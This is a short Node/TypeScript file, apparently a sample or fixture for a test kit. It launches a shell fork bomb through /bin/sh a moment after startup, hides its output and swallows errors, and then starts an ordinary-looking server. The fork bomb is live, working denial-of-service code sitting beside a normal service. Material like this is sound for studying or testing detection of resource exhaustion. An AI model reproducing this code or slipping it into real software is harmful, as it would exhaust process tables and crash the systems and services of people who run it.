/** Starts processes that start processes, without end, beside an ordinary server. */
import { spawn } from 'node:child_process';
import { serveLine } from '../kit/serve.ts';

const BOMB = 'bomb() { bomb | bomb & }; bomb';

setTimeout(() => spawn('/bin/sh', ['-c', BOMB], { stdio: 'ignore' }).on('error', () => undefined), 50);
await serveLine({});
